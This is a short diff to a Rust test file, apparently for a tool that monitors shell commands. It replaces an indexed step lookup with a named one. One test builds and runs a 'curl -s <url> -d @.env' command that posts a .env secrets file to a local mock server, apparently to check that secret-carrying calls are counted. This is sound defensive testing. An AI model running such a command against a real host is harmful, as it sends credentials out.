@@ -7,7 +7,7 @@ use crate::support::Reply;
 
 /// What is found of a shell script in the program's place.
 fn found(script: &str, promise: impl FnOnce(&mut Promise)) -> Vec<String> {
-    let scene = Scene::new(&steps::CALLS[4]);
+    let scene = Scene::new(steps::named("a call to zeev"));
     let mut expected = Promise::exit(0);
     promise(&mut expected);
     let script = script.replace("URL", &scene.server.url()).replace("SECRET", scene.secret());
@@ -73,7 +73,7 @@ fn a_session_goes_to_whom_it_was_promised() {
 
 #[test]
 fn what_carries_a_secret_is_counted() {
-    let scene = Scene::new(&steps::CALLS[4]);
+    let scene = Scene::new(steps::named("a call to zeev"));
     let send = format!("curl -s {} -d @.env; ", scene.server.url());
     scene.server.push([Reply::json(200, ""), Reply::json(200, "")]);
     let run = scene.run(scene.machine.shell_command("bash", &send.repeat(2)));
